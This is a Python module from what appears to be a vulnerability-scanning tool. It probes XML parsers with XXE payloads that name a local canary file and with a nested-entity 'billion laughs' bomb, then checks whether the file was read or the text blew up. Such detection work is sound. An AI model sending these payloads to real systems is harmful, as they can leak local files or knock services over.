"""XML: external entities that the parser fetches, and internal ones that it multiplies."""

from __future__ import annotations

import os
from collections.abc import Iterator

from ..canary import Canaries
from ..drive.run import Run
from .base import Attack, Probe, Scene, Sighting

_LEVELS = 7
"""Ten million characters: past the amplification that Expat 2.4.1 and libxml2 put up with."""


class ExternalEntity(Probe):
    """A document whose entity names a file of the machine."""

    weakness = "xxe"
    kinds = frozenset({"xml"})
    of_data = True
    assumed_will_do = True

    def answers_for(self, sighting: Sighting) -> bool:
        """Not where a missing library's default decides, which newer versions of it have changed."""
        return not sighting.event.details.get("by_default", False)

    def attacks(self, sighting: Sighting, canaries: Canaries, scene: Scene) -> Iterator[Attack]:
        """A general entity, and a parameter entity in an external subset."""
        for shape in ('<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file://{f}">]><r><a>&x;</a></r>',
                      '<!DOCTYPE r [<!ENTITY % x SYSTEM "file://{f}"> %x;]><r/>',
                      '<!DOCTYPE r SYSTEM "file://{f}"><r/>'):  # fmt: skip
            mark = canaries.word()
            path = os.path.join(scene.outside, mark)
            with open(path, "w", encoding="ascii") as file:
                file.write("secret-" + mark)
            yield Attack(shape.replace("{f}", path), mark, "an entity that names a file")

    def effect(self, run: Run, sighting: Sighting, attack: Attack, scene: Scene) -> str:
        """The file was opened, or its content is in the document."""
        path = os.path.join(scene.outside, attack.mark)
        for event in run.events:
            if event.kind == "parsed" and "secret-" + attack.mark in event.text:
                return f"the parser replaced the entity by the content of {path}"
            if event.kind in ("file", "url") and event.text.endswith(path):
                return f"the parser opened {path}"
        return ""

    def composed(self, sighting: Sighting) -> bool:
        """Documents are parsed whole."""
        return False


class EntityBomb(Probe):
    """A small document whose nested entities grow ten thousand times."""

    weakness = "xml-bomb"
    kinds = frozenset({"xml"})
    of_data = True

    def attacks(self, sighting: Sighting, canaries: Canaries, scene: Scene) -> Iterator[Attack]:
        """Levels of ten references each."""
        mark = canaries.word()
        entities = f'<!ENTITY a0 "{mark}">'
        for level in range(1, _LEVELS):
            entities += f'<!ENTITY a{level} "{f"&a{level - 1};" * 10}">'
        yield Attack(f"<!DOCTYPE r [{entities}]><r>&a{_LEVELS - 1};</r>", mark, "nested entities")

    def effect(self, run: Run, sighting: Sighting, attack: Attack, scene: Scene) -> str:
        """The text grew as the entities promise."""
        for event in run.events:
            if event.kind == "parsed" and event.text.count(attack.mark) >= 1000:
                return f"{len(str(attack.value))} characters grew to {len(event.text)} while they were parsed"
        return ""

    def composed(self, sighting: Sighting) -> bool:
        """Documents are parsed whole."""
        return False


PROBES = [ExternalEntity(), EntityBomb()]
